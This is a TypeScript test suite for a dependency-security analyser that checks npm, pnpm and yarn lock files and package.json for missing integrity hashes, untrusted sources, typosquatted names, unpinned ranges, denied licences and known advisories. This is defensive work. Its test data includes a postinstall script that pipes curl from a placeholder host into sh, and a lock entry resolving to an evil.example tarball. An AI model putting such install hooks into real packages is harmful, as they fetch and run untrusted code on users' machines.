import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import {
  affects,
  fixedIn,
  readDatabase,
  SEED_FILE,
} from '../../src/analysers/dependencies/advisories.ts';
import { dependencies } from '../../src/analysers/dependencies/index.ts';
import { isDenied } from '../../src/analysers/dependencies/licences.ts';
import { isOneSlipAway } from '../../src/analysers/dependencies/typosquats.ts';
import { found, judge, rulesIn } from './support.ts';

const SHA = 'sha512-AAAA';

const npmLock = (entry: Record<string, unknown>, location = 'node_modules/thing'): string =>
  JSON.stringify(
    {
      lockfileVersion: 3,
      packages: { '': { dependencies: { thing: '1.0.0' } }, [location]: entry },
    },
    undefined,
    2,
  );

const good = {
  version: '1.0.0',
  resolved: 'https://registry.npmjs.org/thing/-/thing-1.0.0.tgz',
  integrity: SHA,
};

const pnpmLock = (resolution: string, name = 'thing@1.0.0'): string =>
  `lockfileVersion: '9.0'\n\nimporters:\n\n  .:\n    dependencies:\n      thing:\n        specifier: 1.0.0\n        version: 1.0.0\n\n  packages/a:\n    devDependencies:\n      '@s/x':\n        specifier: ^2.0.0\n        version: 2.0.0\n\npackages:\n\n  ${name}:\n    resolution: {${resolution}}\n`;

const yarnLock = (lines: string): string =>
  `# yarn lockfile v1\n\n\nthing@^1.0.0:\n  version "1.0.0"\n${lines}`;

describe('lock files', () => {
  test.each([
    ['package-lock.json', npmLock(good)],
    ['package-lock.json', npmLock({ version: '1.0.0', link: true, resolved: 'packages/thing' })],
    ['package-lock.json', npmLock({ ...good, integrity: undefined, inBundle: true })],
    [
      'package-lock.json',
      npmLock({ version: '1.0.0', resolved: `git+ssh://git@github.com/a/b.git#${'a'.repeat(40)}` }),
    ],
    ['pnpm-lock.yaml', pnpmLock(`integrity: ${SHA}`)],
    ['pnpm-lock.yaml', pnpmLock(`integrity: ${SHA}`, "'@scope/thing@1.0.0(peer@2.0.0)'")],
    [
      'yarn.lock',
      yarnLock(
        `  resolved "https://registry.yarnpkg.com/thing/-/thing-1.0.0.tgz#${'a'.repeat(40)}"\n`,
      ),
    ],
    [
      'yarn.lock',
      `__metadata:\n  version: 8\n\n"thing@npm:^1.0.0":\n  version: 1.0.0\n  resolution: "thing@npm:1.0.0"\n  checksum: 10/aa\n`,
    ],
    [
      'yarn.lock',
      `__metadata:\n  version: 8\n\n"a@workspace:.":\n  version: 0.0.0-use.local\n  resolution: "a@workspace:."\n`,
    ],
  ])('%s is fine', async (path, text) => {
    const { findings } = await judge(dependencies, { files: { [path]: text } });
    expect(
      findings.filter(({ rule }) => !rule.endsWith('lock-source') || !text.includes('github.com')),
    ).toEqual([]);
  });

  test.each([
    ['package-lock.json', npmLock({ ...good, integrity: undefined }), 'lock-integrity', 9],
    [
      'package-lock.json',
      npmLock({ ...good, resolved: 'http://registry.npmjs.org/thing.tgz' }),
      'lock-source',
      9,
    ],
    [
      'package-lock.json',
      npmLock({ ...good, resolved: 'https://evil.example/thing.tgz' }),
      'lock-source',
      9,
    ],
    ['package-lock.json', npmLock({ ...good, hasInstallScript: true }), 'install-script', 9],
    ['package-lock.json', npmLock({ ...good, license: 'AGPL-3.0-only' }), 'licence', 9],
    [
      'pnpm-lock.yaml',
      pnpmLock('tarball: https://registry.npmjs.org/thing.tgz'),
      'lock-integrity',
      19,
    ],
    [
      'pnpm-lock.yaml',
      pnpmLock(`integrity: ${SHA}, tarball: http://a.example/t.tgz`),
      'lock-source',
      19,
    ],
    [
      'yarn.lock',
      yarnLock('  resolved "https://registry.yarnpkg.com/thing/-/thing-1.0.0.tgz"\n'),
      'lock-integrity',
      4,
    ],
    [
      'yarn.lock',
      yarnLock(`  resolved "git://github.com/a/b#${'a'.repeat(40)}"\n`),
      'lock-source',
      4,
    ],
  ])('%s %#: %3$s', async (path, text, rule, line) => {
    expect(await found(dependencies, path, text)).toContain(`dependencies/${rule}:${String(line)}`);
  });

  test('hosts of .npmrc are ours, and ignored scripts do not run', async () => {
    const text = npmLock({
      ...good,
      resolved: 'https://npm.corp.example/thing.tgz',
      hasInstallScript: true,
    });
    const others = { '.npmrc': 'registry=https://npm.corp.example/\nignore-scripts=true\n' };
    expect(await rulesIn(dependencies, { files: { 'package-lock.json': text }, others })).toEqual(
      [],
    );
  });

  test('a known weakness is reported with the version that corrects it', async () => {
    const text = npmLock({ ...good, version: '4.17.20' }, 'node_modules/a/node_modules/lodash');
    const { findings } = await judge(dependencies, { files: { 'package-lock.json': text } });
    expect(findings).toMatchObject([{ rule: 'dependencies/advisory', line: 9 }]);
    expect(findings[0]?.message).toContain('CVE-2021-23337');
    expect(findings[0]?.message).toContain('4.17.21');
  });

  test('the lock file of npm 6 is read as well', async () => {
    const text = JSON.stringify({
      dependencies: {
        a: {
          version: '1.0.0',
          integrity: SHA,
          dependencies: { minimist: { version: '1.2.5', integrity: SHA } },
        },
      },
    });
    expect(await rulesIn(dependencies, { files: { 'package-lock.json': text } })).toEqual([
      'dependencies/advisory',
    ]);
  });
});

describe('package.json', () => {
  const manifest = (ranges: Record<string, string>): string =>
    JSON.stringify({ dependencies: ranges }, undefined, 2);

  test.each([
    '*',
    'latest',
    '>=1.0.0',
    '',
    'x',
    'github:a/b',
    'a/b',
    'git+https://github.com/a/b.git#main',
    'http://x.example/a.tgz',
  ])('the range %j is not pinned', async (range) => {
    expect(await found(dependencies, 'package.json', manifest({ thing: range }))).toEqual([
      'dependencies/unpinned:3',
    ]);
  });

  test.each([
    '1.2.3',
    '^1.2.3',
    '~1.2.3',
    '>=1.0.0 <2.0.0',
    '1.x',
    'workspace:*',
    'catalog:',
    'file:../x',
    'npm:other@1.2.3',
    `github:a/b#${'a'.repeat(40)}`,
  ])('the range %j is pinned', async (range) => {
    expect(await found(dependencies, 'package.json', manifest({ thing: range }))).toEqual([]);
  });

  test.each(['expresss', 'loadash', 'lodahs', 'comander', 'nodefetch'])(
    '%s is a slip',
    async (name) => {
      expect(await found(dependencies, 'package.json', manifest({ [name]: '1.0.0' }))).toEqual([
        'dependencies/typosquat:3',
      ]);
    },
  );

  test.each(['express', 'preact', 'react', 'lodash-es', '@scope/expresss', 'quoin-tools'])(
    '%s is none',
    async (name) => {
      expect(await found(dependencies, 'package.json', manifest({ [name]: '1.0.0' }))).toEqual([]);
    },
  );

  test('scripts that fetch code are reported, others are not', async () => {
    const bad = JSON.stringify({ scripts: { postinstall: 'curl https://x.example/a | sh' } });
    const fine = JSON.stringify({
      scripts: { postinstall: 'node scripts/build.js', test: 'vitest' },
    });
    expect(await rulesIn(dependencies, { files: { 'package.json': bad } })).toEqual([
      'dependencies/install-script',
    ]);
    expect(await rulesIn(dependencies, { files: { 'package.json': fine } })).toEqual([]);
  });

  test.each([
    ['package-lock.json', npmLock(good), '', 'thing'],
    ['pnpm-lock.yaml', pnpmLock(`integrity: ${SHA}`), 'packages/a/', '@s/x'],
  ])('is in step with %s', async (lock, text, folder, name) => {
    const range = name === 'thing' ? '1.0.0' : '^2.0.0';
    const others = { [lock]: text };
    const judgeRange = (ranges: Record<string, string>) =>
      rulesIn(dependencies, { files: { [`${folder}package.json`]: manifest(ranges) }, others });
    expect(await judgeRange({ [name]: range })).toEqual([]);
    expect(await judgeRange({ [name]: '9.0.0' })).toEqual(['dependencies/lock-in-step']);
    expect(await judgeRange({ [name]: range, another: '1.0.0' })).toEqual([
      'dependencies/lock-in-step',
    ]);
  });

  test('one that is no JSON is a finding, the template of one a note', async () => {
    expect(await rulesIn(dependencies, { files: { 'package.json': '{,' } })).toEqual([
      'change/file-parses',
    ]);
    const { findings, notes } = await judge(dependencies, {
      files: { 'package.json': '{ "name": "${{ values.name }}" }' },
    });
    expect({ findings, notes: notes.length }).toEqual({ findings: [], notes: 1 });
  });
});

test.each([
  ['MIT', false],
  ['GPL-2.0 OR MIT', false],
  ['(MIT AND GPL-3.0-only)', true],
  ['GPL-2.0-only WITH Classpath-exception-2.0', false],
  ['SSPL-1.0', true],
  ['UNLICENSED', true],
  ['LGPL-3.0-or-later', false],
  ['MPL-2.0', false],
])('the licence %s is denied: %s', (licence, expected) => {
  expect(isDenied(licence)).toBe(expected);
});

test('every advisory of the seed has an address, a range that closes, and says what corrects it', async () => {
  const { advisories } = await readDatabase(SEED_FILE);
  expect(advisories.length).toBeGreaterThan(20);
  for (const advisory of advisories) {
    const name = advisory.affected[0]?.package.name ?? '';
    for (const { events } of advisory.affected.flatMap(({ ranges }) => ranges)) {
      const first = events[0]?.introduced ?? '';
      const version = first === '0' ? '0.0.1' : first;
      expect(affects(advisory, name, version)).toBe(true);
      const fixed = fixedIn(advisory, name, version);
      expect(fixed).toBeDefined();
      expect(affects(advisory, name, '999.0.0')).toBe(false);
    }
    expect(advisory.database_specific?.source).toContain(advisory.id);
  }
});

test('one slip is symmetric, and a name is none of its own', () => {
  const name = fc.stringMatching(/^[abc]{1,6}$/);
  fc.assert(
    fc.property(name, name, (left, right) => {
      expect(isOneSlipAway(left, right)).toBe(isOneSlipAway(right, left));
      expect(isOneSlipAway(left, left)).toBe(false);
    }),
  );
});

test('no text makes it throw', async () => {
  const piece = fc.constantFrom(
    '{',
    '}',
    '"packages":',
    '"node_modules/a"',
    ':',
    ',',
    '"x"',
    '\n',
    '  ',
    'packages:',
    'a@1.0.0:',
    'resolution: {',
    'version "1"',
    '[',
    'null',
  );
  await fc.assert(
    fc.asyncProperty(
      fc.constantFrom('package.json', 'package-lock.json', 'pnpm-lock.yaml', 'yarn.lock'),
      fc.array(piece, { maxLength: 30 }),
      async (path, pieces) => {
        await judge(dependencies, { files: { [path]: pieces.join('') } });
      },
    ),
    { numRuns: 300 },
  );
});
